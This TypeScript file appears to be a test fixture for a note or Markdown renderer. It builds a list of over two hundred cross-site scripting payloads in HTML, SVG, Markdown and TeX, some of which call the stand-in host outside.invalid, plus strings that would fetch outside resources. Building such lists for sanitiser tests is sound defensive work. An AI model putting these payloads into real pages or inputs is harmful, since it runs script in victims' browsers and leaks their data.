/** @file What a stranger's note may try: markup, links, images, TeX and Markdown that would run or fetch something elsewhere. */

/** Each sets the marker, opens a dialog or asks another host. */
const ACTIONS = [
  'window.hacked=1',
  'alert(1)',
  "fetch('https://outside.invalid/x')",
  "top['hac'+'ked']=1",
  "location='https://outside.invalid/'",
];

/** Markup around an action. */
const SHAPES: readonly ((action: string) => string)[] = [
  (action) => `<script>${action}</script>`,
  (action) => `<SCRIPT SRC=data:,${action}></SCRIPT>`,
  (action) => `<img src=x onerror="${action}">`,
  (action) => `<IMG """><SCRIPT>${action}</SCRIPT>">`,
  (action) => `<svg onload="${action}">`,
  (action) => `<svg><script>${action}</script></svg>`,
  (action) => `<svg><animate onbegin="${action}" attributeName=x dur=1s>`,
  (action) => `<body onload="${action}">`,
  (action) => `<iframe srcdoc="<script>${action}</script>"></iframe>`,
  (action) => `<iframe src="javascript:${action}"></iframe>`,
  (action) => `<details open ontoggle="${action}">x</details>`,
  (action) => `<input autofocus onfocus="${action}">`,
  (action) => `<video><source onerror="${action}"></video>`,
  (action) => `<math><mtext><img src=x onerror="${action}"></mtext></math>`,
  (action) => `<a href="javascript:${action}">x</a>`,
  (action) => `<object data="javascript:${action}"></object>`,
  (action) => `<form action="javascript:${action}"><button>x</button></form>`,
  (action) => `<style>@import 'javascript:${action}';</style>`,
  (action) => `<div style="background:url(javascript:${action})">x</div>`,
  (action) => `<template><img src=x onerror="${action}"></template>`,
  (action) => `<noscript><p title="</noscript><img src=x onerror=${action}>">`,
  (action) => `<!--><img src=x onerror="${action}">-->`,
  (action) => `<![CDATA[<img src=x onerror="${action}">]]>`,
  (action) => `"><img src=x onerror="${action}">`,
  (action) => `[x](javascript:${encodeURI(action).replace(/[()]/g, encodeURIComponent)})`,
  (action) => `[x](<javascript:${action}>)`,
  (action) => `[x](JaVaScRiPt&colon;${action.replace(/[()]/g, '')})`,
  (action) => `[x](data:text/html,<script>${action.replace(/[()]/g, '')}</script>)`,
  (action) => `<javascript:${action.replace(/[<>\s]/g, '')}>`,
  (action) => `![x](<javascript:${action}>)`,
  (action) => `[x]: javascript:${action.replace(/\s/g, '')}`,
  (action) => `$\\href{javascript:${action}}{x}$`,
  (action) => `$\\htmlData{onload=${action.replace(/[{}=,]/g, '')}}{x}$`,
  (action) => `$\\htmlStyle{background:url(javascript:${action})}{x}$`,
  (action) => `$\\text{<img src=x onerror="${action}">}$`,
  (action) => `$$\\unknown{<script>${action}</script>}$$`,
  (action) => `\`\`<img src=x onerror="${action}">\`\``,
  (action) => `| <img src=x onerror="${action}"> |`,
  (action) => `&lt;img src=x onerror="${action}"&gt;`,
  (action) => `&#60;script&#62;${action}&#60;/script&#62;`,
];

/** Nothing here runs; each would fetch from another host if it became what it looks like. */
const FETCHES = [
  '![x](https://outside.invalid/a.png)',
  '![公式](https://outside.invalid/equation?tex=x%5E2)',
  '![f](https://latex.codecogs.com/gif.latex?a&plus;b)',
  '![x](//outside.invalid/a.png)',
  '<img src="https://outside.invalid/a.png">',
  '<link rel="stylesheet" href="https://outside.invalid/a.css">',
  '<link rel="prefetch" href="https://outside.invalid/a">',
  '<meta http-equiv="refresh" content="0;url=https://outside.invalid/">',
  '<audio autoplay src="https://outside.invalid/a.mp3"></audio>',
  '<base href="https://outside.invalid/">',
  '$\\includegraphics[width=1em]{https://outside.invalid/a.png}$',
  '$\\url{https://outside.invalid/}$',
];

/** At least two hundred strings, each in one line. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...SHAPES.flatMap((shape) => ACTIONS.map(shape)),
  ...FETCHES,
];
